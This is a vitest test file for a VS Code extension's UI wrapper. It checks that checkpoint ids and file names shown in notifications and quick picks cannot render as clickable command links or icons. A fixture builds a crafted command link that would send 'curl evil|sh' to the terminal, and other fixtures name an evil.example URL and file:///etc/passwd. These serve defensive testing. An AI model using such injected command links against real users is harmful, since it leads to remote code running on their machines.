/**
 * What reaches VS Code's own widgets from a stranger's files: checkpoint ids, unit keys, file
 * names and errors quoted in notifications and quick picks. Notifications turn
 * `[label](command:…)` into a link that runs the command when clicked; quick picks draw
 * `$(name)` as an icon. The UI must show such strings as the text they are.
 */
import { beforeEach, describe, expect, it, vi } from 'vitest';

vi.mock('vscode', () => import('./fake-vscode.js'));

import { windowUi } from '../../src/ui.js';
import { shown } from './fake-vscode.js';

/** VS Code's notification link syntax (src/vs/base/common/linkedText.ts, as code-server 4.139 ships it). */
const NOTIFICATION_LINK =
  /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** VS Code's icon syntax in labels (renderLabelWithIcons): an escaped `\$(name)` is plain text. */
const ICON = /(\\)?\$\(([a-z0-9-]+(?:~[a-z]+)?)\)/gi;

const unescapedIcons = (text: string) =>
  [...text.matchAll(ICON)].filter((match) => match[1] === undefined).map((match) => match[2]);

const hostileId =
  '[Retry now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';

beforeEach(() => {
  shown.length = 0;
});

describe('notifications', () => {
  it('make no link of a checkpoint id that is a command link', () => {
    windowUi.info(`CheckpointKit: reset 1 failed unit of "${hostileId}".`);
    windowUi.warn(`CheckpointKit: "${hostileId}" is read-only.`);
    windowUi.error(
      `CheckpointKit: resetFailed failed: [x](https://evil.example/p) [y](file:///etc/passwd)`,
    );
    expect(shown.map((s) => s.call)).toEqual([
      'showInformationMessage',
      'showWarningMessage',
      'showErrorMessage',
    ]);
    for (const { args } of shown) {
      const message = args[0] as string;
      expect([...message.matchAll(NOTIFICATION_LINK)], message).toEqual([]);
      // The text still reads as it was written.
      expect(message.replace(/\u200b/g, '')).toMatch(/\[(Retry now|x)\]\(/);
    }
  });
});

describe('quick picks', () => {
  it('draw no icon for $(name) in an id, a file name or a folder name', async () => {
    const value = {};
    const chosen = await windowUi.pick(
      [
        {
          label: '$(loading~spin) job',
          description: '50.0% $(pass)',
          detail: 'ws $(lock): .checkpoints/$(x).checkpoint.json',
          value,
        },
      ],
      'Checkpoint to reset',
    );
    expect(chosen).toBe(value);
    const [item] = shown[0]!.args[0] as { label: string; description: string; detail: string }[];
    for (const text of [item!.label, item!.description, item!.detail])
      expect(unescapedIcons(text), text).toEqual([]);
    expect(item!.label).toBe('\\$(loading~spin) job');
  });
});
